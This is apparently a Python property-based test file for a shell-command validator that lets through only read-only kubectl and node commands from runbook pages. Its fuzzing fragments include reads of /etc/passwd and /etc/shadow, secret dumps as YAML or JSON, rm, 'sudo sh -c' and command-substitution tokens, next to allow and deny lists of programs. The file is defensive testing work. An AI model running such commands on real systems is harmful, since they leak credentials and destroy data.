    assert readonly(["cat", "/etc/passwd"], fed=True)
    assert readonly(["systemctl", "status", "kubelet"], Place.NODE) is None
    assert readonly(["systemctl", "status", "kubelet"])


_FRAGMENTS = """
kubectl get pods secret secrets -o yaml json --raw /livez -n shop | ; && || $( ) ` > < & 2>&1 ' " \\ ssh w1 sudo sh -c
rm cat /etc/shadow -f - = * ? exec delete describe logs grep sed -n 1e p $X ${X} # tail --
"""
_RUN = frozenset({"kubectl", "ssh", "date", "true", "getent", "dig", "nc", "nslookup", "cat", "grep", "tail", "sed"})
_WRITES = frozenset(
    {"rm", "exec", "delete", "apply", "patch", "edit", "create", "run", "cp", "attach", "debug", "scale"}
)


@settings(max_examples=400)
@given(st.lists(st.sampled_from([*_FRAGMENTS.split(), "\n"]), max_size=9))
def test_whatever_is_thrown_at_it_runs_no_program_that_writes(parts: list[str]) -> None:
    text = " ".join(parts)
    if refused(text, {"X": "pods"}) is not None:
        return
    script = parse(text)
    for command in script.commands():
        try:
            argv = [a.text for a in expand(command, {"X": "pods"}, lambda _: "x")]
        except ShellError:
            continue
        if argv:
            assert argv[0] in _RUN
            assert argv[0] != "kubectl" or not _WRITES & set(argv[1:2])
            assert not {"secret", "secrets"} & set(argv) or not {"yaml", "json"} & set(argv)


@settings(max_examples=300)
@given(st.text(max_size=60))
def test_any_text_is_judged_without_a_traceback(text: str) -> None:
    for place in Place:
        why = refused(text, place=place)
        assert why is None or why
    readonly(["kubectl", "get", text])
    readonly(["kubectl", text])
    readonly([text, text])


@pytest.mark.parametrize("check_id", sorted(checks()))
def test_every_command_of_every_page_runs_or_is_left_to_a_person_on_purpose(check_id: str) -> None:
    book = page(check_id)
    assert book.blocks
    for step in book.steps:
        assert step.kind is not Kind.COPY or step.by_hand, f"{step.text}: {step.refused}"
        if step.by_hand:
            assert step.refused, step.text
